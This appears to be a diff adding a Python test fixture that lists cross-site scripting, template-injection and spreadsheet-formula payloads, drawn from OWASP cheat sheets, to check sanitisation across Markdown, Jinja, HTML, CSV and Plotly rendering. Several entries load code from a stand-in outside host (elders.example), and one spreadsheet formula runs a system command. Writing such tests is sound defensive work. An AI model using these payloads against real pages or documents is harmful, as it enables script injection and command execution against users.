@@ -1,0 +1,61 @@
+"""What someone may type who wants a page to do something: each runs `geraakt()`, calls for another host or computes 49.
+
+After the cheat sheets of OWASP (cross-site scripting, template and formula injection), for the stages that typed text passes
+here: CSV, notebook, Markdown, Jinja, HTML, attributes, JSON in a script element, Plotly's own markup, spreadsheets.
+"""
+
+PAYLOADS = [
+    # elements
+    "<script>geraakt()</script>",
+    "</script><script>geraakt()</script>",
+    "<ScRiPt>geraakt()</sCrIpT>",
+    "<scr<script>ipt>geraakt()</scr</script>ipt>",
+    "<script src=//elders.example/x.js></script>",
+    "<img src=x onerror=geraakt()>",
+    "<img src=x onerror=geraakt()//",
+    "<img/src=x/onerror=geraakt()>",
+    "<svg onload=geraakt()>",
+    "<svg><script>geraakt()</script></svg>",
+    "<svg><animate onbegin=geraakt() attributeName=x dur=1s>",
+    "<math><mtext></style><img src=x onerror=geraakt()>",
+    "<body onload=geraakt()>",
+    "<iframe srcdoc='<script>parent.geraakt()</script>'></iframe>",
+    "<iframe src=javascript:parent.geraakt()>",
+    "<object data=javascript:geraakt()>",
+    "<embed src=//elders.example/x.swf>",
+    "<details open ontoggle=geraakt()>",
+    "<video><source onerror=geraakt()></video>",
+    "<input autofocus onfocus=geraakt()>",
+    "<form action=javascript:geraakt()><button>verder",
+    "<link rel=stylesheet href=//elders.example/x.css>",
+    "<style>@import '//elders.example/x.css'</style>",
+    "<meta http-equiv=refresh content='0;url=//elders.example'>",
+    "<base href=//elders.example/>",
+    # out of where text stands
+    '" onmouseover="geraakt()" x="',
+    "' onfocus='geraakt()' autofocus x='",
+    '"><img src=x onerror=geraakt()>',
+    "</td></tr></table><img src=x onerror=geraakt()>",
+    "</title><svg onload=geraakt()>",
+    "</textarea><svg onload=geraakt()>",
+    "--><img src=x onerror=geraakt()><!--",
+    "]]><img src=x onerror=geraakt()>",
+    "\\u003cimg src=x onerror=geraakt()\\u003e",
+    "&lt;img src=x onerror=geraakt()&gt;",
+    "&#60;img src=x onerror=geraakt()&#62;",
+    "%3Cimg%20src=x%20onerror=geraakt()%3E",
+    # Markdown, templates, roles, formulas
+    "[klik](javascript:geraakt())",
+    "![beeld](//elders.example/x.png)",
+    "<javascript:geraakt()>",
+    "*vet* **vetter** `code` # kop",
+    "```{raw} html\\n<img src=x onerror=geraakt()>\\n```",
+    "{raw-html}`<img src=x onerror=geraakt()>`",
+    "{{7*7}} {% raw %} ${7*7} #{7*7}",
+    "$x^2$ \\(x\\) \\begin{x}",
+    "<a href='javascript:geraakt()'>klik</a>",
+    "<b onclick=geraakt()>vet</b><br><sub>x</sub>",
+    '=HYPERLINK("//elders.example";"klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+7*7",
+]
